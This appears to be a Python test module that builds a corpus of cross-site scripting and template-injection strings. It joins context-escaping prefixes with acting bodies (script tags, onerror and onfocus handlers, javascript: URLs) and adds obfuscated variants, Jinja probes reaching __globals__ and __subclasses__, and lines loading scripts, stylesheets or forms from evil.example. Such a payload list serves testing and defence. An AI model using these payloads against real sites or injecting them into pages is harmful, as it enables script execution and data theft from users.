"""Strings that try to run: written for this project, prefixes that leave a context times bodies that act, and some of their own."""

from __future__ import annotations

#: what ends the place a text stands in: an attribute, an element, a comment, a script, a style, a template
PREFIXES = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "--><",
    "]]>",
    "`>",
    '\\">',
    "{{",
)
#: what then acts: at once, when loaded, when touched
BODIES = (
    "<script>window.RAN=1;alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>x",
    "<iframe srcdoc='<script>parent.RAN=1</script>'></iframe>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<img src=https://evil.example/beacon.png>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<object data=https://evil.example/x></object>",
    "<video src=https://evil.example/v autoplay onerror=alert(1)></video>",
)
OWN = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}}{{ cycler.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "\u202e<script>alert(1)</script>\u202c",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "<\uff53cript>alert(1)</\uff53cript>",
    "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/y)}</style>",
    "<form action=https://evil.example/><button autofocus>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<body onload=alert(1)><frameset onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<portal src=https://evil.example/></portal><embed src=https://evil.example/>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    '"><script src=//evil.example/x.js></script>',
    "<a href='https://evil.example/' target=_blank rel=opener>look</a>",
)
STRINGS = tuple(dict.fromkeys([prefix + body for body in BODIES for prefix in PREFIXES] + list(OWN)))
